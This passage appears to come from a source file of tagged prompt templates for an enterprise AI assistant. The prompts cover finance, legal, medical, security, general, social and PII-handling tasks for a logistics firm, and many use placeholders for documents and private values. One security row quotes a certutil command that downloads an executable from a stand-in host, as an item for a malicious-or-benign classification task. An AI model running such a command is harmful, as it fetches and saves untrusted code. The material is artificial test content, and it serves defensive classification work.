math f m i => Estimate the FY26 cost of the extra heads given the phasing ;; reasoning f m i => tell me whether hiring 4 tier-1 agents is enough with 18% attrition and 6-week backfills | Estimate the FY26 cost of the extra heads given the phasing. Once done, tell me whether hiring 4 tier-1 agents is enough with 18% attrition and 6-week backfills.{F_BUDGET}
code g l i | Write a Python snippet that reads this table from a CSV file and prints the total loaded cost per role:{F_BUDGET}
summarize f l i | Two sentences I can paste into the FY26 planning deck, please:{F_BUDGET}
draft f m i | Draft the business-case email to the COO for the extra team lead and the tier-2 hire, based on this plan:{F_BUDGET}
# forklift fleet
math f m i | Compare the total cost of the three options over five years, ignoring discounting:{F_FLEET}
math f h i => work out the NPV of each option at our 7.5% cost of capital ;; reasoning f m i => recommend one ;; draft f m i => draft the paragraph for the capex committee | For the forklift decision, please work out the NPV of each option at our 7.5% cost of capital, recommend one, and draft the paragraph for the capex committee.{F_FLEET}
reasoning f m i | Ignoring the numbers for a second, what risks does each option carry for a business whose volumes swing 35% at peak?{F_FLEET}
extract f l i | Give me each option's monthly payment, term and whether maintenance is included, as a table.{F_FLEET}
# FX
summarize f l i | Summarise this for someone on the ops leadership team who doesn't know what a collar is:{F_FX}
math f m i => how many dollars do we lock in at the forward rate if we hedge 65% of the exposure ;; reasoning f m i => should we use the forward or the collar | Two questions: how many dollars do we lock in at the forward rate if we hedge 65% of the exposure, and should we use the forward or the collar?{F_FX}
draft f m i | Draft the recommendation memo for the September committee from this note.{F_FX}
translate f l i | Put this note into French for the Lyon subsidiary's finance director.{F_FX}
# terse
qa f l p | How does a zero-cost collar work, and why pick it over a forward?
qa f l p | What's the accounting difference between a finance lease and an operating lease under IFRS 16?
math f l p | what's 18% of 2,450? quick sanity check
math f l p | If we raise prices 4% and volume drops 2.5%, what happens to revenue?
qa f l p | What does DSO stand for and how is it calculated?
qa f l p | Is a prepaid annual software licence an asset or an expense when we pay it?
reasoning f m i calc | We can pay the freight supplier early for a 2% discount or keep the cash 45 days. Which is better at our 7% borrowing cost?
code f l p | Excel formula that buckets days overdue into 0-30, 31-60, 61-90 and 90+
code f l p | Python function for the monthly payment on a loan given principal, annual rate and term in months
draft f l i | Two-line Slack message reminding managers that expense claims close Friday at noon.
classify f l p | capex or opex: new roof on the depot, annual software subscription, forklift tyres, a new forklift
qa f l p web | What's the current UK VAT registration threshold?
reasoning f m p | Should a 40-person company self-insure dental cover or buy a group policy?
math f l p | Convert EUR 48,500 to USD at 1.087.
math f l i | Margin % if we sell at $84 and the landed cost is $61?
math f l p => What's 7.5% interest on $180k for 9 months ;; reasoning f m i => is that worth paying to bridge a late customer payment | What's 7.5% interest on $180k for 9 months, and is that worth paying to bridge a late customer payment?
qa f l p => Explain accrual vs cash accounting in two lines ;; draft f l i => draft a one-sentence note for the sales team on why their bonus uses accruals | Explain accrual vs cash accounting in two lines. Also draft a one-sentence note for the sales team on why their bonus uses accruals.
extract f l p | Pull the amounts: "deposit $2,000 paid 3/4, balance $6,450 due on delivery, late fee $150"
sentiment f l p | Is this analyst bullish or bearish: "margins look stretched and guidance feels optimistic"?
summarize f l p | One line: "Revenue grew 8% to $212M while adjusted EBITDA margin held at 14%, as freight rate declines offset volume gains."
qa f l p | explain what working capital is and why our bank keeps asking about it
reasoning f m i | Our biggest customer wants 90-day terms instead of 30. What would you weigh before saying yes?
math f l p | Straight-line depreciation per year on a $41,500 forklift, 5 years, 15% residual?
"""

LEGAL = """
# NDA
summarize l l i | Plain-English summary of this NDA clause for the sales team:{L_NDA}
qa l l p => How long do the confidentiality obligations last? ;; reasoning l m i => Is five years normal for a logistics software pilot, or should we push back? | How long do the confidentiality obligations last? Is five years normal for a logistics software pilot, or should we push back?{L_NDA}
extract l l i | List every exception to confidentiality in this clause.{L_NDA}
draft l m i | Redraft this so it is mutual and carves out information independently developed by the recipient:{L_NDA}
reasoning l m i | We want to show this prospect our pricing model. Does this clause actually protect us if their consultant sees it?{L_NDA}
# MSA
reasoning l m i | The supplier's outage cost us about three months of fees in lost orders. Can we recover it under these clauses?{L_MSA}
extract l l i => Pull out the notice periods ;; summarize l l i => summarise the liability cap in one sentence | Pull out the notice periods and summarise the liability cap in one sentence.{L_MSA}
classify l l i | Mark each clause as favourable, neutral or unfavourable to us as the customer:{L_MSA}
draft l h i | Propose replacement wording for 12.1 and 12.2 that raises the cap to 200% of annual fees and carves out data breaches:{L_MSA}
qa l l p | what counts as consequential loss in an English-law contract, and why do suppliers always exclude it?
translate l l i | Translate clauses 12.1-12.3 into Dutch for our Rotterdam counterpart; legal register, please.{L_MSA}
# lease break
reasoning l m i | We want to use this break. It's now 20 August 2025 - are we still in time, and what could trip us up?{L_LEASE}
math l l i | How much is the break payment, and what's the last day we can serve notice?{L_LEASE}
extract l l i | List the break conditions as a checklist for facilities.{L_LEASE}
summarize l l i => Summarise the break clause for the property committee ;; draft l m i => draft the notice letter to the landlord ;; qa l l p => tell me whether it has to go by recorded delivery | Summarise the break clause for the property committee, then draft the notice letter to the landlord. Finally, tell me whether it has to go by recorded delivery.{L_LEASE}
# DPA
summarize l l i | Explain this sub-processor clause to the IT manager in four lines:{L_DPA}
reasoning l m i | The vendor just told us they're adding a support desk in India. Can we object, and would termination be worth it?{L_DPA}
qa l l p | What's a transfer impact assessment and when do we need one?
extract l l i => What notice period applies to new sub-processors? ;; draft l m i => Draft our objection email on data-residency grounds | What notice period applies to new sub-processors? Draft our objection email on data-residency grounds.{L_DPA}
classify l l i | Is this clause processor-friendly, controller-friendly or balanced?{L_DPA}
# non-compete
reasoning l m i | A driver resigned and is joining a competitor next month. Is this covenant likely to be enforceable against him in the UK?{L_NONCOMPETE}
summarize l l i | Summarise the restrictions for the HR business partner in plain words.{L_NONCOMPETE}
qa l l p | explain what garden leave is and why companies use it
draft l m i | Draft a reminder letter to a leaver about their post-termination restrictions, firm but not threatening, based on:{L_NONCOMPETE}
translate l l i | Translate clauses 14 and 15 into Polish and Romanian for our warehouse contracts.{L_NONCOMPETE}
# demand letter
summarize l l i | Two-line summary for the CFO:{L_DEMAND}
reasoning l m i => assess whether we have a defence on the damaged pallets ;; draft l m i => draft a holding response asking for 14 more days | Please assess whether we have a defence on the damaged pallets, plus draft a holding response asking for 14 more days.{L_DEMAND}
math l l i | What's the total they're demanding including interest and compensation?{L_DEMAND}
extract l l i | Pull out the POs, amounts, reminder dates and deadline.{L_DEMAND}
sentiment l l i | How aggressive is this letter, honestly? Are they bluffing?{L_DEMAND}
classify l l i | Is this a letter before action or an informal chaser?{L_DEMAND}
# speak-up policy
classify l l i | Which of these reports fall under the policy: a manager bullying staff, a forklift with faulty brakes, a rumour about a bribe to a customs officer, a complaint about the canteen?{L_SPEAKUP}
draft l h i | Turn section 3 into a one-page staff notice with a step-by-step 'how to raise a concern' and a short FAQ.{L_SPEAKUP}
reasoning l m i | Does 3.5 risk discouraging people from reporting? How would you reword it?{L_SPEAKUP}
qa l l p | Does the EU Whistleblowing Directive require an anonymous reporting channel?
# terse
qa l l p | Do we need consent to send B2B marketing emails in the UK?
qa l l p | what's the difference between a warranty and an indemnity?
reasoning l m i | A customer's purchase order terms conflict with our T&Cs. Whose terms apply?
draft l l i | One-paragraph cookie banner text for our customer portal.
classify l l p | Which of these are personal data: a licence plate, a delivery postcode, a depot ID, a driver's photo?
reasoning l m p | Can we read an employee's work email if we suspect they are leaking pricing?
qa l l p | How long do we have to keep payroll records in the UK?
draft l h i | Write an acceptable use policy for company laptops, about one page.
extract l l p | Give me the parties and the governing law: "This Agreement between Harbor Logistics Ltd and Tidewater Freight B.V. is governed by the laws of the Netherlands."
translate l l p | "Force majeure" and "liquidated damages" in German, please
sentiment l l i | Is opposing counsel conciliatory or hostile here: "Our client remains open to a sensible resolution, though its patience is not unlimited."
summarize l l p | Summarise: "The court held that a clause excluding 'all liability whatsoever' did not exclude liability for deliberate repudiatory breach."
qa l l p => What's the time limit for an unfair dismissal claim ;; reasoning l m i => would a driver dismissed in March still be in time | What's the time limit for an unfair dismissal claim, and would a driver dismissed in March still be in time?
reasoning l h i | We're thinking of moving our drivers to self-employed contracts. Talk me through the legal risks.
code g l p | Regex to find clause references like 'clause 12.1' or 'Clause 9(b)' in contract text
"""

MEDICAL = """
# OH clinic note (named patient)
summarize m l c | Summarise this note for the referral letter, five lines max:{M_NOTE}
extract m l c | List his current medications with doses, and the abnormal results.{M_NOTE}
reasoning m m c => Based on this, is he safe to go back on the forklift after cardiology clears him? ;; draft m m c => Write the fitness-for-work note for his manager without any clinical detail | Based on this, is he safe to go back on the forklift after cardiology clears him? Write the fitness-for-work note for his manager without any clinical detail.{M_NOTE}
math m l c | Work out his approximate 10-year ASCVD-style risk band inputs: convert the HbA1c to % and the LDL to mg/dL.{M_NOTE}
classify m l c | Triage this: urgent, soon or routine cardiology referral?{M_NOTE}
translate m l c | Translate the plan section into Portuguese for the patient, he reads it better than English.{M_NOTE}
# discharge summary
summarize m l i | What matters for his return to work? Summarise in three bullets.{M_DISCHARGE}
extract m l i => Extract every follow-up action and who owns it ;; draft m l i => draft the reminder to the GP about restarting ramipril | Extract every follow-up action and who owns it, and then draft the reminder to the GP about restarting ramipril.{M_DISCHARGE}
qa m l p | What is a CURB-65 score and what does a score of 2 mean?
math m l i | By what percentage did his CRP and creatinine fall from the peak values given here?{M_DISCHARGE}
reasoning m m i | He wants to come back to the warehouse next Monday, day 10 after discharge. Is that sensible for heavy manual work?{M_DISCHARGE}
# labs
classify m l i | Flag each result as normal, borderline or abnormal.{M_LABS}
reasoning m m i | Which of these results need acting on today and which can wait for the GP? He's due on a night shift tonight.{M_LABS}
summarize m l i | Plain-English summary of these results for the employee, without alarming him:{M_LABS}
extract m l i => Pull out the out-of-range values ;; reasoning m m i => suggest what could tie the low haemoglobin, low MCV and low ferritin together | Pull out the out-of-range values, then suggest what could tie the low haemoglobin, low MCV and low ferritin together.{M_LABS}
code m l p | Write a Python function that flags a lab value as low, normal or high given a reference range string like "3.5-5.3" or ">90".
# med rec
reasoning m h i | Go through this list and tell me which interactions worry you most and what the pharmacist should do tonight.{M_MEDS}
extract m l i | Which drugs are on the pre-admission list but missing from the current chart?{M_MEDS}
classify m l i | Label each line as: continue, review, or stop pending review.{M_MEDS}
qa m l p | Why does clarithromycin raise the INR in someone on warfarin?
draft m m i => Draft a handover note for the evening round covering the INR and the missing amiodarone ;; summarize m l i => then give me a one-line version for the whiteboard | Draft a handover note for the evening round covering the INR and the missing amiodarone; then give me a one-line version for the whiteboard.{M_MEDS}
# clinic inbox
classify m l i | Sort these messages into: same day, this week, admin only.{M_PORTAL}
reasoning m m i | Which of these needs a call back first, and what would you tell message 3 right now?{M_PORTAL}
draft m l i | Write short replies to messages 2, 4 and 6.{M_PORTAL}
sentiment m l i | Which messages sound anxious and which sound calm?{M_PORTAL}
classify m l i => Tag each message by type (clinical, repeat prescription, admin, feedback) ;; draft m l i => draft the reply to message 5 | Tag each message by type (clinical, repeat prescription, admin, feedback). After that, draft the reply to message 5.{M_PORTAL}
# protocol
summarize m l i | Five bullets for the reception team, only what changes for them:{M_PROTOCOL}
draft m m i | Turn this into a one-page poster for the staff room.{M_PROTOCOL}
qa m l p | Why chlorine at 1,000 ppm rather than an alcohol wipe for Room 3?
math m l p | How much 10% sodium hypochlorite and water do I need for 5 litres at 1,000 ppm?
extract m l i | List every date, interval and threshold in this protocol.{M_PROTOCOL}
translate m l i | Translate the protocol into Tagalog and Nepali for our agency cleaners.{M_PROTOCOL}
# feedback
sentiment m l i | Score each comment from -2 to +2.{M_FEEDBACK}
classify m l i | Group these comments into themes: clinical care, waiting, booking, environment.{M_FEEDBACK}
summarize m l i => summarise what people are unhappy about ;; draft m m i => suggest a reply we can post on the noticeboard | Please summarise what people are unhappy about and suggest a reply we can post on the noticeboard.{M_FEEDBACK}
# study
summarize m l p | Summarise this abstract for the clinic newsletter in 50 words.{M_STUDY}
reasoning m m p | Would this justify a walking programme for our older drivers with PAD, given the adherence rate?{M_STUDY}
math m l p | If 312 were split evenly, how many people per arm, and what is the absolute difference in serious adverse events?{M_STUDY}
qa m l p | explain what a 95% confidence interval of 19-53 means here{M_STUDY}
extract m l p => Extract the sample size, follow-up and primary outcome ;; classify m l p => tell me what type of study this is | Extract the sample size, follow-up and primary outcome. Also tell me what type of study this is.{M_STUDY}
# terse
qa m l p | Is ibuprofen safe with warfarin?
qa m l p | What's the difference between a sprain and a strain?
reasoning m m p | Colleague fainted in the heat, now awake and talking. Call an ambulance or just monitor?
math m l p | Paracetamol 15 mg/kg for a 22 kg child - how many mg?
math m l p | Convert 98.6 F to Celsius.
qa m l p | what does HbA1c actually measure and why does it matter for drivers?
draft m l i | Text reminder for staff about flu jabs on Thursday 9-12 in Room 2.
classify m l p | Which of these need a same-day appointment: sore throat 2 days, chest pain now, mild rash, ankle sprain yesterday?
reasoning m m p | Night-shift worker with insomnia wants melatonin. Good idea or not?
extract m l p | Pull the drug, dose and frequency: "amoxicillin 500 mg three times daily for 5 days"
translate m l p | How do I say "take with food, twice a day" in Polish?
summarize m l p | One line: "Noise-induced hearing loss is permanent but preventable with correctly fitted protection and exposure limits."
sentiment m l p | Is this patient satisfied: "The nurse was quick, but I still don't know what my results mean."
code m l p | Excel formula for BMI from weight in kg in A2 and height in cm in B2
qa m l p retr | What does our OH policy say about fitness to drive after a seizure?
reasoning m m p => Should staff with a cold still come in? ;; draft m l i => Write the line for the handbook | Should staff with a cold still come in? Write the line for the handbook.
qa m l p => what vaccines do warehouse staff need ;; draft m l i => draft the email to new starters about them | what vaccines do warehouse staff need, and draft the email to new starters about them
math m l p | Dose: 40 mg in 250 mL at 10 mL/h - how many mg per hour?
qa m l p | compare naproxen and ibuprofen for back pain
"""

SECURITY = """
# auth log (IPs)
reasoning s m c | Was this a successful compromise? Walk me through what happened.{S_AUTHLOG}
extract s l c | List the source IPs, usernames tried and the one that succeeded.{S_AUTHLOG}
classify s l c => Classify each line as benign, suspicious or malicious ;; draft s m c => write the containment steps for the on-call engineer | Classify each line as benign, suspicious or malicious, then write the containment steps for the on-call engineer.{S_AUTHLOG}
summarize s l c | Summarise this for the incident ticket in two sentences.{S_AUTHLOG}
code s l c | Give me a grep/awk one-liner that counts failed passwords per source IP from auth.log like this:{S_AUTHLOG}
code s m p => write a Python script that bans an IP after 5 failures in 60 seconds ;; qa s l p => what's the difference between that and fail2ban | First, write a Python script that bans an IP after 5 failures in 60 seconds. Second, what's the difference between that and fail2ban?
# phishing email
classify s l i | phishing or legit?{S_PHISH}
extract s l i | Pull the IOCs - domains, URLs, sender - so I can block them.{S_PHISH}
draft s l i | Write the all-staff warning about this email, short and non-technical.{S_PHISH}
reasoning s m i => Which red flags should the training use? ;; creative g l p => Then give me a catchy title for the phishing awareness session | Which red flags should the training use? Then give me a catchy title for the phishing awareness session.{S_PHISH}
translate s l i | Translate the warning into Spanish and Portuguese for the depot staff:{S_PHISH}
sentiment s l i | What emotions is this email trying to trigger in the reader?{S_PHISH}
# EDR alert
reasoning s m i | Is this a true positive? What would you check next?{S_ALERT}
extract s l i | Extract the host, user, parent file, child command and the destination.{S_ALERT}
code s l p | Decode the base64 in the child command and explain what it does.{S_ALERT}
summarize s l i => summarise the alert for the CISO ;; classify s l i => map it to a severity using our P1-P4 scale ;; draft s l i => draft the message to the user's manager | For this one: summarise the alert for the CISO, map it to a severity using our P1-P4 scale, and draft the message to the user's manager.{S_ALERT}
qa s l p | what are MITRE T1566.001 and T1059.001?
# vuln scan
reasoning s m i | Prioritise these findings for this week - we have two engineers and one maintenance window.{S_VULN}
classify s l i | Which findings are already out of SLA under the policy at the bottom?{S_VULN}
summarize s l i | Summarise the scan for the IT steering group, no jargon.{S_VULN}
draft s m i => Draft a risk-acceptance request for the HSTS finding ;; math s l i => work out the average days open | Draft a risk-acceptance request for the HSTS finding, and work out the average days open.{S_VULN}
qa s l p | What is CVE-2021-41773 and why is it so bad?
# incident timeline
summarize s l i | Exec summary of INC-2291, five lines:{S_IR}
reasoning s m i | Should we tell the supplier's other customers? Weigh it up.{S_IR}
draft s h i | Write the post-incident report from this timeline: summary, impact, root cause, actions, lessons.{S_IR}
extract s l i => extract the timestamps and actions into a table ;; math s l i => compute the time from detection to containment | I need two things from this: extract the timestamps and actions into a table, and compute the time from detection to containment.{S_IR}
# firewall
reasoning s m i | Which of these rules would you remove first, and why?{S_FW}
code s m i | Rewrite this ruleset to restrict RDP to the jump host and close the database rule.{S_FW}
qa s l p | explain what a default-deny rule is and why it goes last
classify s l i | Tag each rule as needed, risky or obsolete.{S_FW}
# access standard
summarize s l i | Summarise AC-2 for new joiners, four bullets:{S_POLICY}
qa s l p | Why did NIST stop recommending forced password rotation?
classify s l i | Which of these breach AC-2: a shared 'warehouse' login, a 12-character password, SMS MFA as the only method, a service account used to RDP in?{S_POLICY}
draft s h i | Write the full Access Control Standard from these bullets, with scope, roles, requirements and exceptions.{S_POLICY}
# vulnerable code
code s l p | Fix the SQL injection in this function.{S_CODE}
code s l p | Review this for security problems and rewrite it safely.{S_CODE}
qa s l p => Explain what SQL injection is ;; code s l p => show me the parameterised version of the query | Explain what SQL injection is and show me the parameterised version of the query.{S_CODE}
classify s l p | How severe is this bug: low, medium, high or critical?{S_CODE}
# terse
qa s l p | What's the difference between EDR and antivirus?
reasoning s m i | Someone left their laptop unlocked in the canteen. Disciplinary issue or training issue?
code s l p | PowerShell to list local admins on a Windows machine
classify s l p | Malicious or benign: certutil -urlcache -f http://x.top/a.exe a.exe
draft s l i | One-line Teams message: USB sticks are blocked from Monday.
qa s l p | How does MFA fatigue work?
reasoning s m i | Should the depot tablets be on the same Wi-Fi as the office laptops?
math s l p | How long would it take to brute-force a 10-character lowercase password at 1e10 guesses per second?
extract s l p | Pull the CVE ids: "Patch covers CVE-2024-3094, CVE-2023-4863 and the older CVE-2021-44228."
summarize s l p | tl;dr: "Attackers increasingly use OAuth consent phishing to obtain persistent mailbox access without stealing passwords."
qa s l p web | Is there a patch yet for the latest Fortinet SSL-VPN zero-day?
classify s l i | Password "Summer2025!" - weak, medium or strong?
reasoning s m i => How risky is letting sales use personal phones for email? ;; draft s m i => Draft the BYOD rules we'd need | How risky is letting sales use personal phones for email? Draft the BYOD rules we'd need.
code g l p | write a regex that validates and normalises MAC addresses
qa s l p | compare WPA2 and WPA3 for a warehouse network
"""

GENERAL = """
# ops meeting notes
extract g l i | Pull out the action items with owners and dates.{G_MEETING}
summarize g l i | Turn these notes into a five-line update for the regional director.{G_MEETING}
summarize g l i => Summarise the notes ;; extract g l i => list the open decisions ;; draft g l i => draft the email that goes to attendees | Summarise the notes, list the open decisions and draft the email that goes to attendees.{G_MEETING}
reasoning g m i | Weekend shifts for customer service or more temps in the warehouse - where does the money go further before peak?{G_MEETING}
math g l i | If volumes rise 35% and on-time stays at 91%, how many more late deliveries a week is that on a base of 6,200 deliveries?{G_MEETING}
classify g l i | Tag each agenda item as people, equipment, process or safety.{G_MEETING}
# buggy python
code g l p | Why does this crash, and how do I fix it?{G_PYBUG}
code g l p | Fix this so cancelled orders aren't counted in the denominator either, and add a docstring and type hints.{G_PYBUG}
code g l p => Fix the bug ;; code g l p => write three pytest cases for it ;; qa g l p => explain why len(orders) was the wrong denominator | Three asks on this snippet:\\n1) Fix the bug\\n2) write three pytest cases for it\\n3) explain why len(orders) was the wrong denominator{G_PYBUG}
code g l p | Explain this function to a junior developer, line by line:{G_PYBUG}
# SQL
code g l i | This drops regions with no orders even though I used a LEFT JOIN. Why, and what's the fix?{G_SQL}
code g l i | Explain this query line by line to a new analyst.{G_SQL}
code g l i => Rewrite it to include regions with zero orders ;; code g l i => add a second query that gives revenue per month per region | Rewrite it to include regions with zero orders. Plus, separately, add a second query that gives revenue per month per region.{G_SQL}
qa g l p | compare LEFT JOIN and INNER JOIN with a tiny example
# stack trace
reasoning g m i | Why are these jobs failing, and what's the most likely root cause?{G_STACK}
code g m i | Add exponential backoff with jitter to the fetch call that honours Retry-After.{G_STACK}
summarize g l i | Summarise this log for the #ops-alerts channel in one line.{G_STACK}
extract g l i => Extract the failing URL and the job names ;; draft g l i => write a short status-page message for the partner integration | Extract the failing URL and the job names. Then write a short status-page message for the partner integration.{G_STACK}
classify g l i | Is this a bug on our side, a partner outage or a rate-limit issue?{G_STACK}
# engagement survey
sentiment g l i | Overall, how positive is this set of comments?{G_SURVEY}
classify g l i | Group these into themes: communication, scheduling, pay, training, facilities, safety.{G_SURVEY}
summarize g l i => Summarise the main complaints ;; draft g m i => draft three actions the site manager could commit to | Summarise the main complaints, then draft three actions the site manager could commit to.{G_SURVEY}
sentiment g l i => which comments are negative ;; extract g l i => quote the one about safety word for word | Tell me which comments are negative, and quote the one about safety word for word.{G_SURVEY}
reasoning g m i | Which issue would you fix first if we only had budget for one, and why?{G_SURVEY}
# angry customer
sentiment g l i | How angry is this customer, 1-10, and is there a churn risk?{G_CUSTOMER}
draft g l i | Draft an apology with a firm delivery date and a goodwill credit.{G_CUSTOMER}
extract g l i => Pull the order number and dates ;; classify g l i => tag it for the right queue ;; draft g l i => draft a reply ;; summarize g l i => give me a one-line summary for the account manager | Pull the order number and dates, tag it for the right queue, draft a reply and give me a one-line summary for the account manager.{G_CUSTOMER}
classify g l i | Priority P1, P2 or P3 under our customer-service rules?{G_CUSTOMER}
reasoning g m i | Refund, replacement or expedite? What would you do?{G_CUSTOMER}
translate g l i | Translate this complaint into Hindi for the offshore support team.{G_CUSTOMER}
# office move
summarize g l i | Cut this down to a three-line Teams post.{G_ANNOUNCE}
extract g l i | List every date and deadline in this announcement.{G_ANNOUNCE}
creative g l p | Write a funny four-line poem to go with this announcement.{G_ANNOUNCE}
translate g l i | Translate into Polish and Lithuanian for the warehouse team.{G_ANNOUNCE}
draft g l i => Draft the FAQ ;; creative g l p => come up with a name for the new canteen | Draft the FAQ; also, come up with a name for the new canteen.{G_ANNOUNCE}
qa g l i retr | where do I collect my new access card after the move?
# helpdesk queue
classify g l i | Assign each ticket a priority (P1-P4) and a team (desktop, identity, apps, network, security).{G_TICKETS}
reasoning g m i | Which ticket would you pick up first, and why?{G_TICKETS}
extract g l i | Which tickets mention an account or access problem? Just the IDs.{G_TICKETS}
classify s l i => Is T-4414 a security incident? ;; draft s l i => Write what I should tell that user right now | Is T-4414 a security incident? Write what I should tell that user right now.{G_TICKETS}
summarize g l i | Summarise the queue for the 9am stand-up.{G_TICKETS}
# release notes
summarize g l p | What do drivers need to know? Three bullets.{G_RELEASE}
draft g l i | Write the internal announcement of RouteDesk 3.8 for dispatchers.{G_RELEASE}
classify g l p | Which changes are user-facing and which are back-end only?{G_RELEASE}
reasoning g m i | The session timeout drop to 2 h will annoy dispatchers. Should we ask the vendor to revert it or live with it?{G_RELEASE}
translate g l p => Translate the 'New' and 'Fixed' lines into Spanish ;; code g l p => write a short script that checks our integrations for v1 API calls | Translate the 'New' and 'Fixed' lines into Spanish, and write a short script that checks our integrations for v1 API calls.{G_RELEASE}
# HR email (named employee)
reasoning l m c | Do we have to agree to her request? What are our options under flexible working law?{G_HRMAIL}
draft g l c | Draft a reply to the manager suggesting a trial period of three months.{G_HRMAIL}
summarize g l c | One-line summary for the HR case log.{G_HRMAIL}
extract g l c => extract the employee's name, contact number and deadline ;; draft l m c => draft the outcome letter approving the request | Could you extract the employee's name, contact number and deadline and draft the outcome letter approving the request?{G_HRMAIL}
# terse
qa g l p | What's the difference between a pallet and a skid?
draft g l i | Out-of-office message for the Christmas shutdown, 24 Dec to 2 Jan.
code g l p | bash one-liner to find files over 1GB in /var/log
code g l p | Write a Python function that parses and validates UK postcodes.
code g l p | Google Sheets formula to count deliveries per driver in column C
reasoning g m i | Two shifts of 10 hours or three of 8 for the new cross-dock?
extract g l p | Pull the times: "Doors open 7:30, briefing 7:45, first wave out at 8:15."
math g l p | 14 pallets at 1.2 m long - how many metres of trailer?
qa g l p | Why do warehouses use FIFO rather than LIFO?
summarize g l p | Summarise the pros and cons of four-day weeks for warehouse staff.
draft g m i | Job ad for a night-shift forklift driver, Leeds depot, GBP 14.20/h.
reasoning g m p | Best way to split 9 people into 3 teams for a scavenger hunt so no two managers are together?
qa g l p | explain what an API rate limit is and why partners impose them
code g l p | Review and fix: for i in range(len(x)): if x[i] = 0: print(i)
math g l p | Average of 91, 94, 89, 96 and 93?
draft g l i | Polite nudge to a colleague who hasn't sent the rota for next week.
"""

SOCIAL = """
# chat
chat g l p | hi there, first time using this thing
chat g l p | thanks, that's exactly what I needed for the audit pack
chat g l p | good morning! how's your day going?
chat g l p | can you read PDFs if I paste the text in?
chat g l p | do you keep a copy of what I paste here?
chat g l p | which model are you, and who built you?
chat g l p | are you able to see our SharePoint or only what I type?
chat g l p | you were wrong about the VAT threshold yesterday, just so you know
chat g l p | ok cool, that's all for today, bye
chat g l p | what kinds of things can you help an HR team with?
chat g l p | lol that limerick was terrible, I love it
chat g l p | sorry, my last message was meant for someone else, ignore it
chat g l p | Is it OK to paste patient notes into you, or does that go somewhere?
chat g l p | Happy Friday! Any big plans for the weekend?
chat g l p | how long can my messages be before you lose track?
chat g l p | can you remember what we talked about last week?
chat g l p | I'm having a rough day, the audit is killing me
chat g l p | do you speak Polish? half my team does
chat g l p | can I trust your maths or should I always double-check?
chat g l p | nice one, the board loved that summary you wrote
chat g l p | are you the same assistant IT rolled out to the depots?
# creative
creative g l p | Slogan for safety week in the warehouse, under eight words
creative g l p | Write a retirement toast for a driver who's been with us 31 years and never missed a shift.
creative g l p | Name ideas for our new returns-handling service
creative g l p | Short bedtime-style story about a brave little forklift for the depot's family day
creative g l p | a haiku about month-end close
creative g l p | Team names for the charity quiz, logistics puns welcome
creative g l p | A rap verse about hand hygiene for the clinic's training video
creative g l p | Rhyming invite for the Christmas party on 12 December at the Riverside canteen
creative g l p | Tagline for the new customer delivery portal
creative g l p | A clean joke to open the quarterly all-hands
creative g l p | Mascot name for the cyber awareness campaign - something friendly
creative g l p | Write a short fable about a phishing email for the staff newsletter.
creative g l p | Six-word stories about life in a distribution centre, give me five
creative g l p | Poem celebrating the finance team closing the year in four days
creative g l p | a limerick about the printer on the second floor
# translate
translate g l p | Translate "Your delivery is delayed by 24 hours" into Spanish, Italian and Polish.
translate g l p | "please wear hi-vis in the yard at all times" in Romanian
translate f l p | Translate to English: "Bitte senden Sie uns die korrigierte Rechnung bis Freitag."
translate g l p | What's "lead time" in Japanese?
translate g l p | Traduis en anglais : « Le camion est bloqué à la frontière depuis ce matin. »
translate m l p | translate "fit for work with restrictions" into Portuguese
translate l l p | Translate into German: "Either party may terminate this Agreement on 90 days' written notice."
translate f l p | "Your card has been charged twice, we will refund you" in Mandarin
translate s l p | How do I say "never share your password, even with IT" in Arabic?
translate g l p | Tradúcelo al inglés: "El almacén cerrará el lunes por inventario."
translate m l p | Translate "fasting from midnight before your blood test" into Urdu and Bengali.
"""

PII_ROWS = """
# DSAR (named requester)
extract l l c | List every category of data she is asking for.{L_DSAR}
reasoning l m c | Can we withhold the exit interview notes or the CCTV, and do we have to give her the emails that only mention her in passing?{L_DSAR}
draft l m c => Draft the acknowledgement email ;; qa l l c => tell me the statutory deadline counting from today, 3 February | Draft the acknowledgement email and tell me the statutory deadline counting from today, 3 February.{L_DSAR}
summarize l l c | Summarise the request for the DSAR tracker in one line.{L_DSAR}
classify l l c | Is this a valid subject access request? Yes or no, with the reason.{L_DSAR}
# bank changes / BEC
classify s l r | Legit vendor update or BEC attempt?{F_BANKCHANGE}
extract f l r => Extract the new IBAN and the sender ;; reasoning s m r => tell me what checks AP should run before changing the vendor master | Extract the new IBAN and the sender, then tell me what checks AP should run before changing the vendor master.{F_BANKCHANGE}
draft s l r | Write a reply asking them to confirm the change through a call-back to the number we already hold. Don't repeat the account details.{F_BANKCHANGE}
summarize s l r | Summarise this for the fraud log in one line.{F_BANKCHANGE}
sentiment s l r | How pushy is the tone of this email on a scale of 1-5?{F_BANKCHANGE}
# short rows with values
extract f l r | Which card was charged twice? "Card ending 4411 fine; {CC1} charged $89.00 on 2 and 3 June."
draft f l r | Email the bank asking them to recall Friday's payment to {IB2}, reference our call this morning.
qa f l r | Is {IB3} a French or a Belgian account?
draft f m r | Draft a letter to the IRS disputing the late-filing penalty for employee {N5}, SSN {SSN1}, tax year 2023.
extract g l r | Pull the NRIC and mobile from this visitor form: "Name: {N6}, NRIC {NR1}, mobile {PH2}, host: Facilities"
reasoning s m c | Is it suspicious that one user logged in from {IP3} and from {IP6A} within ten minutes?
draft g l c | Write a meeting invite to {E3} and {E4} for Thursday's peak planning session.
draft g l c | Text to {N7} on {PH3} confirming the interview at 10am Tuesday at the Leeds depot.
extract f l r => Pull the card number ;; classify f l c => tag the expense category | Pull the card number and tag the expense category: "Hotel Riverside, 2 nights, $412, paid with {CC2}"
classify s l r | Our DLP flagged this chat message - is it a real card number or a test value? "try {CC3} for the demo"
draft f l r | Write the refund confirmation to {N8}: GBP 240.00 back to the Amex {CC3} within 5 working days.
summarize g l c | One line for the CRM: call from {N9} ({PH4}) about the missing pallet on order 77120.
extract f l r | Get the IBAN and BIC out of this: "Please pay {IB4}, BIC INGBNL2A, beneficiary Van Dijk Transport".
reasoning f m r | An employee, {N10} (SSN {SSN2}), wants her bonus paid to a different account than her salary. Any payroll or tax problem?
draft g l r | Write the onboarding email to {N11} (NRIC {NR2}) with her start date, Monday 4 August, and the badge pickup desk.
extract g l c | Extract the names and emails from this signature block: "{N12} | Dispatch Lead | {E5} | {PH5}"
classify s l c | Which of these logins look impossible-travel? {IP4} (Leeds) at 09:02, {IP5} (Lagos) at 09:20, {IP6B} (Leeds) at 11:00
draft f l r | Ask the customer to resend payment; their card {CC4} was declined twice on invoice INV-2025-2231.
translate g l r | Translate into Malay for the agency: "Worker {N13}, FIN {NR3}, starts night shift on 1 September."
